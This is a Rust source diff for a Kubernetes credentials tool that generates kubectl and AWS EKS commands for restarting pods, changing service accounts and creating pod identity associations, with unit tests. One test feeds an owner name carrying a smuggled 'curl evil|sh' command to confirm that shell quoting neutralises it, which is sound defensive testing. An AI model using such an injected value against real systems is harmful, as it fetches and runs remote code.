@@ -5,7 +5,7 @@ use std::borrow::Cow;
 use podcreds_types::ServiceAccount;
 use serde_json::Value;
 
-use crate::snapshot::{Cluster, Details, role_name};
+use crate::snapshot::{Cluster, Details, Owner, Pod, role_name};
 
 /// A word for a shell.
 pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
@@ -13,6 +13,71 @@ pub(crate) fn quoted(word: &str) -> Cow<'_, str> {
     match !word.is_empty() && word.chars().all(is_plain) {
         true => Cow::Borrowed(word),
         false => Cow::Owned(format!("'{}'", word.replace('\'', r"'\''"))),
+    }
+}
+
+/// What makes a pod, as kubectl names it: `deployment/web`. Nothing where its pods cannot be rolled
+/// out.
+fn maker(pod: &Pod) -> Option<String> {
+    let Owner { kind, name } = pod.owner.as_ref()?;
+    match kind.as_str() {
+        "ReplicaSet" => {
+            let hash = pod.labels.get("pod-template-hash")?;
+            let deployment = name.strip_suffix(&format!("-{hash}"))?;
+            Some(quoted(&format!("deployment/{deployment}")).into_owned())
+        }
+        "StatefulSet" => Some(quoted(&format!("statefulset/{name}")).into_owned()),
+        "DaemonSet" => Some(quoted(&format!("daemonset/{name}")).into_owned()),
+        _ => None,
+    }
+}
+
+/// `kubectl`, in the pod's namespace.
+fn kubectl(pod: &Pod) -> String {
+    format!("kubectl -n {}", quoted(&pod.namespace))
+}
+
+/// Makes a pod again.
+pub(crate) fn restart(pod: &Pod) -> String {
+    let (kubectl, name) = (kubectl(pod), quoted(&pod.name));
+    match (maker(pod), &pod.owner) {
+        (Some(maker), _) => format!("{kubectl} rollout restart {maker}"),
+        (None, Some(_)) => format!("{kubectl} delete pod {name}"),
+        (None, None) => {
+            format!("{kubectl} get pod {name} -o yaml > pod.yaml, delete it, and create it again")
+        }
+    }
+}
+
+/// Changes what makes a pod.
+pub(crate) fn edit(pod: &Pod) -> String {
+    match maker(pod) {
+        Some(maker) => format!("{} edit {maker}", kubectl(pod)),
+        None => format!("in what makes the pod, then {}", restart(pod)),
+    }
+}
+
+/// Takes a variable away from a pod's containers.
+pub(crate) fn unset(pod: &Pod, variable: &str) -> String {
+    match maker(pod) {
+        Some(maker) => format!("{} set env {maker} {variable}-", kubectl(pod)),
+        None => format!(
+            "take {variable} out of what makes the pod, then {}",
+            restart(pod)
+        ),
+    }
+}
+
+/// Gives a pod another service account.
+pub(crate) fn use_account(pod: &Pod, account: &ServiceAccount) -> String {
+    let name = quoted(&account.name);
+    match maker(pod) {
+        Some(maker) => format!("{} set serviceaccount {maker} {name}", kubectl(pod)),
+        None => format!(
+            "set serviceAccountName: {} in what makes the pod, then {}",
+            account.name,
+            restart(pod)
+        ),
     }
 }
 
@@ -27,7 +92,7 @@ fn place(cluster: &Cluster) -> String {
     )
 }
 
-/// Makes an association, with another one's role.
+/// Makes an association, with another one's roles and session tags. Its policy is not repeated.
 pub(crate) fn create_association(
     cluster: &Cluster,
     account: &ServiceAccount,
@@ -36,9 +101,13 @@ pub(crate) fn create_association(
     let role = like.map_or("ROLE_ARN", |details| details.role.as_str());
     let target = like.and_then(|details| details.target_role.as_deref());
     let target = target.map(|target| format!(" --target-role-arn {}", quoted(target)));
+    let tags = match like.is_none_or(|details| details.session_tags) {
+        true => "",
+        false => " --disable-session-tags",
+    };
     format!(
         "aws eks create-pod-identity-association {} --namespace {} --service-account {} \
-         --role-arn {}{}",
+         --role-arn {}{}{tags}",
         place(cluster),
         quoted(&account.namespace),
         quoted(&account.name),
@@ -106,6 +175,7 @@ mod tests {
         let details = Details {
             role: "arn:aws:iam::1:role/a".to_owned(),
             target_role: Some("arn:aws:iam::2:role/b".to_owned()),
+            session_tags: true,
             ..Details::default()
         };
         let account = "shop/reader".parse().unwrap();
@@ -116,5 +186,65 @@ mod tests {
              --target-role-arn arn:aws:iam::2:role/b"
         );
         assert!(create_association(&cluster, &account, None).ends_with("--role-arn ROLE_ARN"));
+        let untagged = Details {
+            session_tags: false,
+            ..details
+        };
+        let create = create_association(&cluster, &account, Some(&untagged));
+        assert!(create.ends_with(" --disable-session-tags"), "{create}");
+    }
+
+    fn pod(kind: &str, name: &str) -> Pod {
+        Pod {
+            namespace: "shop".to_owned(),
+            name: "web-7f8d-x".to_owned(),
+            labels: [("pod-template-hash".to_owned(), "7f8d".to_owned())].into(),
+            owner: Some(Owner {
+                kind: kind.to_owned(),
+                name: name.to_owned(),
+            }),
+            ..Pod::default()
+        }
+    }
+
+    #[test]
+    fn what_made_a_pod_is_restarted() {
+        let deployment = restart(&pod("ReplicaSet", "web-7f8d"));
+        assert_eq!(deployment, "kubectl -n shop rollout restart deployment/web");
+        let set = restart(&pod("StatefulSet", "db"));
+        assert_eq!(set, "kubectl -n shop rollout restart statefulset/db");
+        let job = restart(&pod("Job", "once"));
+        assert_eq!(job, "kubectl -n shop delete pod web-7f8d-x");
+        let mut alone = pod("Job", "once");
+        alone.owner = None;
+        assert!(restart(&alone).ends_with("create it again"));
+    }
+
+    #[test]
+    fn a_pod_that_cannot_be_rolled_out_is_changed_where_it_is_made() {
+        let job = pod("Job", "once");
+        let account = "shop/reader".parse().unwrap();
+        for command in [edit(&job), unset(&job, "X"), use_account(&job, &account)] {
+            assert!(command.contains("what makes the pod"), "{command}");
+            assert!(command.ends_with("kubectl -n shop delete pod web-7f8d-x"));
+        }
+    }
+
+    /// A pod says itself who owns it.
+    #[test]
+    fn an_owners_name_runs_nothing() {
+        let pod = pod("StatefulSet", "a; curl evil|sh #");
+        let account = "shop/reader".parse().unwrap();
+        for command in [
+            restart(&pod),
+            edit(&pod),
+            unset(&pod, "X"),
+            use_account(&pod, &account),
+        ] {
+            assert!(
+                command.contains(" 'statefulset/a; curl evil|sh #'"),
+                "{command}"
+            );
+        }
     }
 }
